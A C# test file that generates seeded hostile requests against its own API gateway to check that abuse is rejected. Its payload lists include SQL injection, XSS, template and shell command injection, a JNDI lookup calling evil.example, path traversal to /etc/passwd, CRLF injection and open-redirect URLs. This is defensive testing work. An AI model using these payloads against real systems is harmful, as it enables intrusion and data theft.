using System.Diagnostics;
using System.Globalization;
using System.Text;
using System.Text.Json;
using Backend.Testing;

namespace EndToEnd.Tests.Hostile;

/// <summary>
/// A deterministic (seeded) generator of hostile requests over every public route of the gateway: each
/// probe is an endpoint, a caller and one kind of abuse. The mix is weighted so that every category gets
/// hundreds of requests; what each request must get back is judged elsewhere (<see cref="HostileVerdicts"/>).
/// </summary>
internal sealed class HostileRequests
{
    private enum BodyKind
    {
        None,
        User,
        Patch,
        Order,
        Product,
    }

    private sealed record Endpoint(string Method, string Template, BodyKind Body);

    /// <summary>
    /// The request bodies this generator knows how to abuse, by the schema the API documents for them. An operation
    /// whose body is not here makes the run fail: write hostile bodies for it first.
    /// </summary>
    private static readonly Dictionary<string, BodyKind> BodyKinds = new(StringComparer.Ordinal)
    {
        [ApiOperation.MergePatch] = BodyKind.Patch,
        ["UserRequest"] = BodyKind.User,
        ["PlaceOrderRequest"] = BodyKind.Order,
        ["CreateProductRequest"] = BodyKind.Product,
        ["ProductRequest"] = BodyKind.Product,
    };

    /// <summary>
    /// Writes the victim may send with a body no endpoint accepts (so that, with the victim's own token, nothing may
    /// change either): each must be a documented operation.
    /// </summary>
    private static readonly Endpoint[] VictimWriteEndpoints =
    [
        new("PUT", "/api/v1/users/me", BodyKind.User),
        new("PATCH", "/api/v1/users/me", BodyKind.Patch),
        new("PUT", "/api/v1/users/{id}", BodyKind.User),
        new("PATCH", "/api/v1/users/{id}", BodyKind.Patch),
        new("POST", "/api/v1/orders", BodyKind.Order),
    ];

    private static readonly Caller[] ForgedCallers =
    [
        Caller.ExpiredToken, Caller.WrongAudience, Caller.WrongIssuer, Caller.UnsignedToken, Caller.TamperedToken,
        Caller.WrongTokenType, Caller.VictimSubjectSwapped, Caller.GarbageToken, Caller.RefreshTokenAsBearer, Caller.OtherScheme,
    ];

    private static readonly Caller[] UserInfoCallers = [.. ForgedCallers.Where(c => c != Caller.WrongAudience), Caller.Anonymous, Caller.Service, Caller.Attacker];

    /// <summary>Forged tokens that claim to be the victim or an admin: accepting any of them anywhere is a takeover.</summary>
    public static bool ClaimsSomeoneElse(Caller caller) => caller is Caller.ExpiredToken or Caller.WrongAudience or Caller.WrongIssuer
        or Caller.UnsignedToken or Caller.TamperedToken or Caller.WrongTokenType or Caller.VictimSubjectSwapped;

    private static readonly string[] Injections =
    [
        "' OR '1'='1", "' OR 1=1--", "'; DROP TABLE users;--", "\"; DROP TABLE orders; --", "1; SELECT pg_sleep(10)--",
        "' UNION SELECT email, password_hash FROM accounts--", "admin'--", "%' OR email LIKE '%", "\\'; --",
        "1' AND (SELECT COUNT(*) FROM pg_tables) > 0 --", "'||(SELECT version())||'", "1)) OR ((1=1", "'; COPY users TO '/tmp/x';--",
        "<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>",
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "{\"$gt\":\"\"}", "$where: '1 == 1'",
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%00", "%0d%0aSet-Cookie: owned=1", "%s%s%s%n", "{0}{1}{2}",
        "\u202Egnp.exe", "\uFEFFbom", "🙂", "Ω≈ç√∫", "𝕳𝖊𝖑𝖑𝖔", "; ls -la", "| cat /etc/passwd", "`id`", "$(id)", "*", "%", "_",
        "null", "undefined", "NaN", "-1", "0", "true", "[]", "{}", "\\", "\"", "'", "`", "\t", "  ", "",
    ];

    private static readonly string[] ControlInjections = ["a\0b", "\0", "line\r\nbreak", "\u0007bell", "\u001b[31mred", "a\u0085b", "\r\n\r\nGET / HTTP/1.1"];

    private static readonly string[] BrokenJson =
    [
        "", " ", "\n\n", "{", "}", "[", "]", "{{}}", "{\"name\":", "{\"name\":\"x\"", "{\"name\":\"x\",}", "{name:\"x\"}", "{'name':'x'}",
        "{\"name\":\"x\"}}", "{\"name\":\"x\"} {\"name\":\"y\"}", "{\"name\":\"x\" /* comment */}", "// comment\n{\"name\":\"x\"}",
        "{\"name\":undefined}", "{\"name\":NaN}", "{\"name\":Infinity}", "{\"name\":-Infinity}", "{\"name\":\"a\nb\"}", "{\"name\":\"a\tb\"}",
        "{\"name\":\"\\x41\"}", "{\"name\":\"\\u12\"}", "{\"name\":\"\\uZZZZ\"}", "{\"name\":\"\\\"}", "\"just a string\"", "nul", "tru", "fals",
        "0x10", "{\"name\" \"x\"}", "{,}", "[,]", "{\"items\":[{]}", "{\"items\":[{\"sku\":\"A\",}]}", "{\"name\":\"x\"\u0000}", "\u0000\u0000\u0000",
        "\uFEFF{\"name\":", "<user><name>x</name></user>", "name=x&email=y", "name: x\nemail: y", "{\"name\":'x'}", "{\"name\":\"x\"]",
        "[{\"name\":\"x\"}", "{\"name\":01}", "{\"name\":1.}", "{\"name\":.5}", "{\"name\":+1}", "{\"name\":1e}", "{\"name\":--1}", "{\"\":}",
        "{:\"x\"}", "{\"a\"::1}", "{\"name\":\"x\",,\"email\":\"y\"}", "{\"name\":\"x\"\"email\":\"y\"}", "{\"name\":True}", "{\"name\":NULL}",
        "{\"name\":\"x\"}garbage", "null", "[]", "[1,2]", "42", "\"\"", "true",
    ];

    private static readonly string[] Accepts =
    [
        "text/html", "application/xml", "text/plain", "*/*", "application/json", "image/png", "application/problem+json",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "garbage;;;", "application/json;q=0", "text/*", "",
    ];

    private static readonly string[] BadIfMatch =
    [
        "garbage", "\"0\"", "\"1\"", "W/\"0\"", "\"99999999999999999999\"", "\"-1\"", "\"\"", "\"a\", \"b\"", "\"abc", "W/", "\"0\", W/\"1\"",
        "'1'", "\"\\u0000\"",
    ];

    private static readonly string[] WebRedirects = ["http://localhost:5173/callback"];

    private static readonly string[] EvilRedirects =
    [
        "http://evil.example/callback", "https://evil.example", "//evil.example", "/\\evil.example", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "http://localhost:5173.evil.example/callback", "http://localhost:5173@evil.example/callback", "http://localhost:5173/callback/../../evil",
        "http://localhost:5173/callback?next=http://evil.example", "http://evil.example%2f@localhost:5173/callback", "HTTP://LOCALHOST:5173/CALLBACK",
        "http://localhost:5173/callback#frag", "com.backend.mobile:/oauth2redirect/../evil", "http://127.0.0.1:4444/callback",
    ];

    private readonly HostileWorld _world;
    private readonly Random _random;

    /// <summary>Every documented API operation (from the services' OpenAPI documents), with the kind of body it takes.</summary>
    private readonly Endpoint[] _apiEndpoints;

    private readonly Endpoint[] _writeEndpoints;
    private readonly List<(string Name, int Weight, Func<Probe> Make)> _families;
    private readonly string _host;
    private readonly List<string> _idempotencyKeys = [.. Enumerable.Range(0, 6).Select(i => $"hostile-{i}-{Guid.NewGuid():N}")];

    public HostileRequests(HostileWorld world, int seed)
    {
        _world = world;
        _random = new Random(seed);
        _apiEndpoints = [.. world.Operations.Select(o => new Endpoint(o.Method, o.Template, o.Body is null ? BodyKind.None
            : BodyKinds.TryGetValue(o.Body, out var kind) ? kind
            : throw new InvalidOperationException($"{o.Name} ({o.Service}) takes a {o.Body} body, which this generator has no hostile bodies for.")))];
        _writeEndpoints = [.. _apiEndpoints.Where(e => e.Body != BodyKind.None)];
        if (VictimWriteEndpoints.FirstOrDefault(v => !_apiEndpoints.Contains(v)) is { } gone)
        {
            throw new InvalidOperationException($"{gone.Method} {gone.Template} is no longer a documented operation (with a {gone.Body} body).");
        }

        _host = world.Gateway.Authority;
        _families =
        [
            ("broken-json", 9, BrokenJsonProbe),
            ("deep-nesting", 4, DeepNestingProbe),
            ("wrong-types", 8, WrongTypesProbe),
            ("huge-numbers", 6, HugeNumbersProbe),
            ("huge-strings", 5, HugeStringsProbe),
            ("invalid-utf8", 6, InvalidUtf8Probe),
            ("injection", 10, InjectionProbe),
            ("mass-assignment", 3, MassAssignmentProbe),
            ("other-users-ids", 10, OtherUsersIdsProbe),
            ("forged-tokens", 8, ForgedTokenProbe),
            ("content-types", 5, ContentTypeProbe),
            ("duplicated-headers", 3, DuplicatedHeadersProbe),
            ("oversized", 2, OversizedProbe),
            ("forwarding-headers", 3, ForwardingHeadersProbe),
            ("path-traversal", 4, PathTraversalProbe),
            ("hostile-queries", 6, HostileQueryProbe),
            ("methods", 3, MethodProbe),
            ("conditionals", 3, ConditionalProbe),
            ("idempotency", 3, IdempotencyProbe),
            ("oauth", 7, OAuthProbe),
            ("discovery", 1, DiscoveryProbe),
            ("account-pages", 3, AccountPageProbe),
            ("raw-protocol", 11, RawProbe),
        ];
    }

    /// <summary>The documented operations none of <paramref name="probes"/> was sent to.</summary>
    public static IReadOnlyList<string> Uncovered(IEnumerable<ApiOperation> documented, IEnumerable<Probe> probes)
    {
        var sent = probes.Select(p => p.Endpoint).ToHashSet(StringComparer.Ordinal);
        return [.. documented.Select(o => o.Name).Where(name => !sent.Contains(name)).Distinct().Order(StringComparer.Ordinal)];
    }

    public List<Probe> Generate(int count)
    {
        var total = _families.Sum(f => f.Weight);
        var probes = new List<Probe>(count);
        while (probes.Count < count)
        {
            var roll = _random.Next(total);
            foreach (var (_, weight, make) in _families)
            {
                if (roll < weight)
                {
                    probes.Add(make());
                    break;
                }

                roll -= weight;
            }
        }

        return probes;
    }

    // ---- API body abuse: every body here is invalid for every endpoint, so the victim may send them too ----

    private Probe BrokenJsonProbe()
    {
        var endpoint = Pick(_writeEndpoints);
        var body = Chance(0.15) ? DuplicateKeys(endpoint.Body) : Pick(BrokenJson);
        return BodyProbe("broken-json", endpoint, Encoding.UTF8.GetBytes(body));
    }

    private static string DuplicateKeys(BodyKind kind) => kind switch
    {
        BodyKind.Patch => """{"name":"Duplicate A","name":"Duplicate B"}""",
        BodyKind.User => """{"email":"dup@example.com","name":"Duplicate","email":"dup2@example.com"}""",
        _ => """{"items":[{"sku":"DUP-1","quantity":1}],"items":[{"sku":"DUP-2","quantity":2}]}""",
    };

    private Probe DeepNestingProbe()
    {
        var endpoint = Pick(_writeEndpoints);
        var depth = One(33, 64, 200, 1_000, 5_000, 20_000, 31_000);
        var body = _random.Next(6) switch
        {
            0 => new string('[', depth) + new string(']', depth),
            1 => string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth),
            2 => "{\"name\":" + new string('[', depth) + new string(']', depth) + "}",
            3 => "{\"items\":" + new string('[', depth) + new string(']', depth) + "}",
            4 => "{\"items\":[{\"sku\":" + string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth) + "}]}",
            _ => new string('[', depth),
        };
        return BodyProbe("deep-nesting", endpoint, Encoding.UTF8.GetBytes(body));
    }

    private Probe WrongTypesProbe()
    {
        var endpoint = Pick(_writeEndpoints);
        var body = endpoint.Body switch
        {
            BodyKind.User => One(
                """{"email":123,"name":"x"}""", """{"email":"a@example.com","name":true}""", """{"email":"a@example.com","name":[]}""",
                """{"email":"a@example.com","name":{}}""", """{"email":null,"name":null}""", """{"email":["a@example.com"],"name":"x"}""",
                """{"email":"a@example.com","name":1e3}""", """{"email":{"$ne":null},"name":"x"}""", "[\"a@example.com\",\"x\"]", "\"a@example.com\"", "12"),
            BodyKind.Patch => One(
                """{"name":123}""", """{"name":null}""", """{"email":false}""", """{"name":["x"]}""", """{"name":{"first":"x"}}""", "[]", "\"x\"", "1",
                """{"email":null}""", """{"name":1.5e300}"""),
            _ => One(
                """{"items":"x"}""", """{"items":{}}""", """{"items":[1,2]}""", """{"items":[{"sku":1,"quantity":1}]}""",
                """{"items":[{"sku":"A","quantity":"2"}]}""", """{"items":[{"sku":"A","quantity":1.5}]}""",
                """{"items":[{"sku":"A","quantity":true}]}""", """{"items":[{"sku":["A"],"quantity":1}]}""",
                """{"items":[{"sku":{"$ne":null},"quantity":1}]}""", """{"items":[{"sku":"A","quantity":[1]}]}""",
                """{"items":[{"sku":"A","quantity":{"value":1}}]}""", """{"items":null}""", """{"items":[]}""",
                """{"items":[null]}""", """{"items":[{"sku":null,"quantity":1}]}""", """{"items":[["A",1]]}"""),
        };
        return BodyProbe("wrong-types", endpoint, Encoding.UTF8.GetBytes(body));
    }

    private Probe HugeNumbersProbe()
    {
        var endpoint = Pick(_writeEndpoints);
        string body;
        if (endpoint.Body == BodyKind.Order)
        {
            var quantities = new[] { "1e400", "99999999999999999999999", "-99999999999999999999", "2147483648", "-2147483649", "0", "-1", "1001", "1e3", "1.0", "1E+2" };
            // A product on sale in quantities out of range, with a price slipped in, repeated a hundred times; or 101 lines.
            var sku = Pick(_world.OrderableSkus);
            body = _random.Next(4) switch
            {
                0 => $$"""{"items":[{"sku":"{{sku}}","quantity":{{Pick(quantities)}}}]}""",
                1 => $$"""{"items":[{"sku":"{{sku}}","quantity":1,"unit_price":{{One("1e400", "79228162514264337593543950336", "-0.01", "0.001")}}}]}""",
                2 => "{\"items\":[" + string.Join(',', Enumerable.Repeat($$"""{"sku":"{{sku}}","quantity":1000}""", 100)) + "]}",
                _ => "{\"items\":[" + string.Join(',', Enumerable.Range(0, 101).Select(i => $$"""{"sku":"MANY-{{i}}","quantity":1}""")) + "]}",
            };
        }
        else
        {
            body = $$"""{"name":{{One("1e400", "99999999999999999999999999999", "-0", "1E308")}}}""";
        }

        return BodyProbe("huge-numbers", endpoint, Encoding.UTF8.GetBytes(body));
    }

    private Probe HugeStringsProbe()
    {
        var endpoint = Pick(_writeEndpoints);
        // Over every limit: 100 characters for a person's name, 200 for a product's, 10 UTF-16 units per character.
        var length = One(201, 1_000, 5_000, 30_000, 60_000, 70_000);
        var huge = _random.Next(5) switch
        {
            0 => new string('A', length),
            1 => string.Concat(Enumerable.Repeat("👩‍👩‍👧", Math.Max(201, length / 8))),
            2 => "a" + new string('\u0301', Math.Max(2_001, length)),
            3 => string.Concat(Enumerable.Repeat("\\u0041", length / 6 + 201)),
            _ => new string('x', length) + "@example.com",
        };
        var body = endpoint.Body switch
        {
            BodyKind.User => Chance(0.5) ? $$"""{"email":"{{huge}}","name":"x"}""" : $$"""{"email":"huge@example.com","name":"{{huge}}"}""",
            BodyKind.Patch => Chance(0.7) ? $$"""{"name":"{{huge}}"}""" : $$"""{"{{new string('k', length)}}":"x"}""",
            _ => _random.Next(3) switch
            {
                0 => $$"""{"items":[{"sku":"{{huge}}","quantity":1}]}""",
                1 => $$"""{"items":[{"sku":"{{new string('S', length)}}","quantity":1}]}""",
                _ => $$"""{"items":[{"sku":"HUGE-1","quantity":1,"{{new string('k', length)}}":"x"}]}""",
            },
        };
        return BodyProbe("huge-strings", endpoint, Encoding.UTF8.GetBytes(body));
    }

    private static readonly byte[][] BadUtf8 =
    [
        [0xFF], [0xFE, 0xFF], [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80], [0xED, 0xB0, 0x80], [0xF4, 0x90, 0x80, 0x80],
        [0xF8, 0x88, 0x80, 0x80, 0x80], [0x80], [0xBF], [0xC3], [0xE2, 0x82], [0xF0, 0x9F, 0x99],
    ];

    private static readonly string[] BadEscapes = ["\\uD800", "\\uDC00", "\\uD800\\u0041", "\\uDBFF\\uDBFF", "x\\uDFFFy"];

    private Probe InvalidUtf8Probe()
    {
        var endpoint = Pick(_writeEndpoints);
        var bad = Chance(0.7) ? Pick(BadUtf8) : Encoding.ASCII.GetBytes(Pick(BadEscapes));
        byte[] body;
        switch (_random.Next(4))
        {
            case 0: // in a value
                var (prefix, suffix) = endpoint.Body switch
                {
                    BodyKind.User => ("{\"email\":\"utf8@example.com\",\"name\":\"A", "B\"}"),
                    BodyKind.Patch => ("{\"name\":\"A", "B\"}"),
                    _ => ("{\"items\":[{\"sku\":\"UTF-1A", "B\",\"quantity\":1}]}"),
                };
                body = [.. Encoding.UTF8.GetBytes(prefix), .. bad, .. Encoding.UTF8.GetBytes(suffix)];
                break;
            case 1: // in a property name
                body = [.. "{\"na"u8.ToArray(), .. bad, .. "me\":\"x\"}"u8.ToArray()];
                break;
            case 2: // a valid body in another encoding, declared as UTF-8
                var json = endpoint.Body == BodyKind.Order
                    ? $$"""{"items":[{"sku":"{{Pick(_world.OrderableSkus)}}","quantity":1}]}"""
                    : """{"email":"wide@example.com","name":"Wide"}""";
                body = One(Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes(json)).ToArray(), Encoding.BigEndianUnicode.GetBytes(json), Encoding.UTF32.GetBytes(json));
                break;
            default: // structural bytes
                body = [.. "{\"name\":"u8.ToArray(), .. bad, .. "}"u8.ToArray()];
                break;
        }

        return BodyProbe("invalid-utf8", endpoint, body);
    }

    private Probe MassAssignmentProbe()
    {
        var endpoint = Pick(_writeEndpoints);
        var victimId = _world.Victim.Id;
        var body = endpoint.Body switch
        {
            BodyKind.User => One(
                $$"""{"email":"mass@example.com","name":"Mass","id":"{{victimId}}"}""", """{"email":"mass@example.com","name":"Mass","role":"admin"}""",
                """{"email":"mass@example.com","name":"Mass","created_at":"2000-01-01T00:00:00Z"}""", """{"email":"mass@example.com","name":"Mass","version":1}""",
                """{"email":"mass@example.com","name":"Mass","is_admin":true}""", """{"email":"mass@example.com","name":"Mass","__proto__":{"admin":true}}""",
                """{"email":"mass@example.com","name":"Mass","roles":["admin"]}"""),
            BodyKind.Patch => One(
                $$"""{"id":"{{victimId}}"}""", """{"created_at":"2000-01-01T00:00:00Z"}""", """{"role":"admin"}""", $$"""{"user_id":"{{victimId}}"}""",
                """{"Name":"Case"}""", """{"name":"Ok","scope":"users.admin.write"}""", """{"__proto__":{"role":"admin"}}""", """{"constructor":{"prototype":{}}}"""),
            // A product on sale, with what the server decides slipped in: a price, a name, a currency, an owner, a status.
            _ => One(
                $$"""{"items":[{"sku":"{{Pick(_world.OrderableSkus)}}","quantity":1}],"user_id":"{{victimId}}"}""",
                $$"""{"items":[{"sku":"{{Pick(_world.OrderableSkus)}}","quantity":1}],"total":0.01}""",
                $$"""{"items":[{"sku":"{{Pick(_world.OrderableSkus)}}","quantity":1}],"status":"shipped"}""",
                $$"""{"items":[{"sku":"{{Pick(_world.OrderableSkus)}}","quantity":1}],"number":1}""",
                $$"""{"items":[{"sku":"{{Pick(_world.OrderableSkus)}}","quantity":1}],"currency":"USD"}""",
                $$"""{"items":[{"sku":"{{Pick(_world.OrderableSkus)}}","quantity":1,"unit_price":0.01}]}""",
                $$"""{"items":[{"sku":"{{Pick(_world.OrderableSkus)}}","quantity":1,"name":"Renamed by the client"}]}""",
                $$"""{"items":[{"sku":"{{Pick(_world.OrderableSkus)}}","quantity":1,"line_total":0.01}]}""",
                $$"""{"items":[{"sku":"{{Pick(_world.OrderableSkus)}}","quantity":1,"order_id":"{{_world.VictimOrderIds[0]}}"}]}""",
                $$"""{"id":"{{_world.VictimOrderIds[0]}}","items":[{"sku":"{{Pick(_world.OrderableSkus)}}","quantity":1}]}"""),
        };
        return BodyProbe("mass-assignment", endpoint, Encoding.UTF8.GetBytes(body));
    }

    /// <summary>
    /// A body that no endpoint accepts, sent by anyone, the victim included (with the victim's own token it
    /// must still change nothing), to the victim's resources or the caller's own.
    /// </summary>
    private Probe BodyProbe(string category, Endpoint endpoint, byte[] body)
    {
        var caller = PickCaller((Caller.Attacker, 35), (Caller.Victim, 30), (Caller.Admin, 10), (Caller.Anonymous, 5), (Caller.AttackerReadOnly, 5),
            (Pick(ForgedCallers), 10), (Caller.Service, 5));
        if (caller == Caller.Victim)
        {
            endpoint = VictimWriteEndpoints.FirstOrDefault(e => e.Method == endpoint.Method && e.Body == endpoint.Body) ?? Pick(VictimWriteEndpoints);
        }

        var (target, victim) = Fill(endpoint.Template, caller, aimAtVictim: Chance(0.6));
        var contentType = endpoint.Body == BodyKind.Patch && Chance(0.7) ? "application/merge-patch+json" : "application/json";
        return Api(category, caller, endpoint.Method, endpoint.Template, target, body, contentType, [], victim,
            chunked: Chance(0.1), mustBeRejected: true);
    }

    // ---- injection, ownership, forged tokens ----

    private Probe InjectionProbe()
    {
        var injection = Pick(Injections);
        var caller = PickCaller((Caller.Attacker, 70), (Caller.Admin, 15), (Caller.Anonymous, 10), (Caller.AttackerReadOnly, 5));
        var escaped = Uri.EscapeDataString(injection);
        switch (_random.Next(12))
        {
            case 0:
                return Mine(caller, "PUT", "/api/v1/users/me", JsonSerializer.Serialize(new { email = $"inj-{Guid.NewGuid():N}@example.com", name = injection }));
            case 1:
                return Mine(caller, "PATCH", "/api/v1/users/me", JsonSerializer.Serialize(new { name = injection }), "application/merge-patch+json");
            case 2:
                return Mine(caller, "PUT", "/api/v1/users/me", JsonSerializer.Serialize(new { email = injection, name = "Injected" }));
            case 3:
                // The public catalog: a search or a cursor that is an injection (anyone may send it; the admin may not write here).
                var catalogQuery = One("q", "cursor", "limit");
                return Api("injection", caller == Caller.Admin ? Caller.Anonymous : caller, "GET", "/api/v1/products",
                    $"/api/v1/products?{catalogQuery}={escaped}", null, null, [], false);
            case 4:
                return Mine(caller, "POST", "/api/v1/orders", JsonSerializer.Serialize(new
                {
                    items = new[] { new { sku = injection, quantity = 1 } },
                }, ApiClient.Json));
            case 5:
                var query = One("status", "cursor", "limit", "user_id");
                return Api("injection", caller, "GET", "/api/v1/orders", $"/api/v1/orders?{query}={escaped}", null, null, [], false);
            case 6:
                var filter = One("email_prefix", "name_prefix", "cursor", "limit");
                return Api("injection", Chance(0.7) ? Caller.Admin : caller, "GET", "/api/v1/users", $"/api/v1/users?{filter}={escaped}", null, null, [], false);
            case 7:
                var reportQuery = One("min_total", "cursor", "limit");
                return Api("injection", Chance(0.7) ? Caller.Admin : caller, "GET", "/api/v1/reports/top-customers",
                    $"/api/v1/reports/top-customers?{reportQuery}={escaped}", null, null, [], false);
            case 8:
                var template = One("/api/v1/users/{id}", "/api/v1/orders/{id}", "/api/v1/orders/{id}/cancel");
                var method = template.EndsWith("/cancel", StringComparison.Ordinal) ? "POST" : One("GET", "DELETE", "PUT", "PATCH");
                var body = method is "PUT" or "PATCH" ? Encoding.UTF8.GetBytes("""{"name":"Injected"}""") : null;
                return Api("injection", caller, method, template, template.Replace("{id}", escaped, StringComparison.Ordinal), body,
                    body is null ? null : "application/json", [], false);
            case 9:
                var header = One("If-Match", "If-None-Match", "Idempotency-Key", "X-Forwarded-For", "User-Agent", "Referer", "Cookie", "Accept-Language", "traceparent", "tracestate", "baggage", "Origin", "X-Request-Id");
                var value = injection.Length == 0 ? " " : injection;
                var (target, victim) = Fill("/api/v1/users/{id}", caller, aimAtVictim: Chance(0.3));
                var read = One("GET", "DELETE");
                return Api("injection", caller, caller == Caller.Admin ? "GET" : read, "/api/v1/users/{id}", target, null, null, [(header, value)], victim);
            case 10:
                var control = Pick(ControlInjections);
                return Mine(caller, "PATCH", "/api/v1/users/me", JsonSerializer.Serialize(new { name = control }), "application/merge-patch+json");
            default:
                // A product read by a SKU that is an injection: 404, never an error.
                return Api("injection", caller == Caller.Admin ? Caller.Anonymous : caller, "GET", "/api/v1/products/{sku}",
                    $"/api/v1/products/{escaped}", null, null, [], false);
        }
    }

    /// <summary>A request on the caller's own resources (admin and anonymous included: they have none, or may).</summary>
    private Probe Mine(Caller caller, string method, string path, string body, string contentType = "application/json") =>
        Api("injection", caller == Caller.Admin && method != "GET" ? Caller.Attacker : caller, method, path, path, Encoding.UTF8.GetBytes(body), contentType, [], false);

    private Probe OtherUsersIdsProbe()
    {
        var caller = PickCaller((Caller.Attacker, 60), (Caller.AttackerReadOnly, 15), (Caller.Service, 15), (Caller.Anonymous, 10));
        var victimId = VictimIdVariant();
        var orderId = VictimOrderVariant();
        var freshEmail = $"pwn-{Guid.NewGuid():N}@example.com";
        IReadOnlyList<(string, string)> ifAny = Chance(0.3) ? [("If-Match", "*")] : [];
        return _random.Next(14) switch
        {
            0 => Api("other-users-ids", caller, "GET", "/api/v1/users/{id}", $"/api/v1/users/{victimId}", null, null, Chance(0.3) ? [("If-None-Match", "*")] : [], true),
            1 => Api("other-users-ids", caller, "PUT", "/api/v1/users/{id}", $"/api/v1/users/{victimId}", Json(new { email = freshEmail, name = "Pwned" }), "application/json", ifAny, true),
            2 => Api("other-users-ids", caller, "PATCH", "/api/v1/users/{id}", $"/api/v1/users/{victimId}",
                Json(Chance(0.5) ? new { name = "Pwned" } : (object)new { email = freshEmail }), "application/merge-patch+json", ifAny, true),
            3 => Api("other-users-ids", caller, "DELETE", "/api/v1/users/{id}", $"/api/v1/users/{victimId}", null, null, ifAny, true),
            4 => Api("other-users-ids", caller, "GET", "/api/v1/orders/{id}", $"/api/v1/orders/{orderId}", null, null, Chance(0.3) ? [("If-None-Match", "*")] : [], true),
            5 => Api("other-users-ids", caller, "POST", "/api/v1/orders/{id}/cancel", $"/api/v1/orders/{orderId}/cancel", Chance(0.5) ? Json(new { }) : null,
                "application/json", Chance(0.3) ? [("Idempotency-Key", Guid.NewGuid().ToString())] : ifAny, true),
            6 => One("confirm", "ship") is var step
                ? Api("other-users-ids", caller, "POST", $"/api/v1/orders/{{id}}/{step}", $"/api/v1/orders/{orderId}/{step}", null, null, ifAny, true)
                : throw new UnreachableException(),
            7 => Api("other-users-ids", caller, "GET", "/api/v1/orders", $"/api/v1/orders?user_id={victimId}&limit=100", null, null, [], true),
            8 => Api("other-users-ids", caller, "GET", "/api/v1/reports/top-customers", "/api/v1/reports/top-customers?min_total=0&limit=100", null, null, [], false),
            9 => Api("other-users-ids", caller, "GET", "/api/v1/users", $"/api/v1/users?email_prefix={Uri.EscapeDataString(_world.Victim.Email[..8])}", null, null, [], false),
            10 => Api("other-users-ids", caller, "POST", "/api/v1/users", "/api/v1/users", Json(new { email = _world.Victim.Email, name = "Clone" }), "application/json", [], false),
            11 => Api("other-users-ids", caller, "PUT", "/api/v1/users/me", "/api/v1/users/me", Json(new { email = _world.Victim.Email, name = "Impostor" }), "application/json", [], false),
            12 => Api("other-users-ids", caller, "PATCH", "/api/v1/users/me", "/api/v1/users/me", Json(new { email = _world.Victim.Email.ToUpperInvariant() }), "application/merge-patch+json", [], false),
            _ => Api("other-users-ids", caller, "GET", "/api/v1/users/{id}", $"/api/v1/users/{_world.Admin.Id}", null, null, [], false),
        };
    }

    private string VictimIdVariant()
    {
        var id = _world.Victim.Id;
        return _random.Next(8) switch
        {
            0 => id.ToString().ToUpperInvariant(),
            1 => id.ToString("N"),
            2 => Uri.EscapeDataString(id.ToString("B")),
            3 => Uri.EscapeDataString(id.ToString("P")),
            4 => $"{id}/",
            5 => $"me/../{id}",
            _ => id.ToString(),
        };
    }

    private string VictimOrderVariant()
    {
        var id = Pick(_world.VictimOrderIds);
        return _random.Next(6) switch
        {
            0 => id.ToUpperInvariant(),
            1 => Guid.Parse(id).ToString("N"),
            2 => Uri.EscapeDataString(Guid.Parse(id).ToString("B")),
            _ => id,
        };
    }

    private Probe ForgedTokenProbe()
    {
        var caller = Pick(ForgedCallers);
        var endpoint = Pick(_apiEndpoints);
        var (target, _) = Fill(endpoint.Template, Caller.Victim, aimAtVictim: true);
        var body = endpoint.Body switch
        {
            BodyKind.User => Json(new { email = $"taken-over-{Guid.NewGuid():N}@example.com", name = "Taken over" }),
            BodyKind.Patch => Json(new { name = "Taken over" }),
            BodyKind.Order => Json(new { items = new[] { new { sku = Pick(_world.OrderableSkus), quantity = 1 } } }),
            BodyKind.Product => Json(new { sku = "FORGED-1", name = "Forged", unit_price = 0.01m, stock = 1_000_000 }),
            _ => null,
        };
        var contentType = endpoint.Body == BodyKind.Patch ? "application/merge-patch+json" : body is null ? null : "application/json";
        // Forged tokens that claim the victim (or admin) must all be refused; the others (another scheme, garbage) may
        // happen to carry the attacker's own valid token ("bearer" in lower case), which only reaches the attacker's data.
        return Api("forged-tokens", caller, endpoint.Method, endpoint.Template, target, body, contentType, [], targetsVictim: target != endpoint.Template,
            mustBeRejected: ClaimsSomeoneElse(caller));
    }

    // ---- headers ----

    private static readonly string?[] ContentTypes =
    [
        null, "text/plain", "text/plain; charset=utf-8", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=----x",
        "application/json; charset=bogus", "application/json; charset=utf-7", "application/json; charset=\"utf-8\"", "application/json; charset=utf-16",
        "application/json; charset=utf-32", "application/json; charset=iso-8859-1", "application/json;;;", "application/jsonx", "application/json, text/plain",
        "*/*", "application/*", ";", "json", "application/json; boundary=" + new string('x', 2000), "application/vnd.api+json", "APPLICATION/JSON",
        "application/json-patch+json", "image/png", "application/json; charset=", "application/json; charset=utf-8; charset=utf-16", "text/json",
    ];

    private Probe ContentTypeProbe()
    {
        if (Chance(0.3))
        {
            // Errors asked for in another format: the problem stays JSON.
            var caller = PickCaller((Caller.Attacker, 60), (Caller.Anonymous, 20), (Caller.AttackerReadOnly, 20));
            var (target, victim) = Chance(0.5) ? ($"/api/v1/users/{_world.Victim.Id}", true) : ($"/api/v1/orders/{Guid.NewGuid()}", false);
            return Api("content-types", caller, One("GET", "DELETE", "TRACE"), "/api/v1/{resource}/{id}", target, null, null,
                [("Accept", Pick(Accepts))], victim, accept: false);
        }

        var endpoint = Pick(_writeEndpoints);
        var attacker = PickCaller((Caller.Attacker, 60), (Caller.Victim, 40));
        if (attacker == Caller.Victim)
        {
            endpoint = Pick(VictimWriteEndpoints);
        }

        // The victim's bodies are broken as well as mislabelled; the attacker's are valid JSON under a wrong label.
        var body = attacker == Caller.Victim
            ? Pick(BrokenJson)
            : endpoint.Body switch
            {
                BodyKind.Order => $$"""{"items":[{"sku":"{{Pick(_world.OrderableSkus)}}","quantity":1}]}""",
                BodyKind.Patch => """{"name":"Content type"}""",
                BodyKind.Product => $$"""{"sku":"CT-{{_random.Next(100)}}","name":"Content type","unit_price":2.00,"stock":1}""",
                _ => $$"""{"email":"ct-{{Guid.NewGuid():N}}@example.com","name":"Content type"}""",
            };
        var contentType = Pick(ContentTypes);
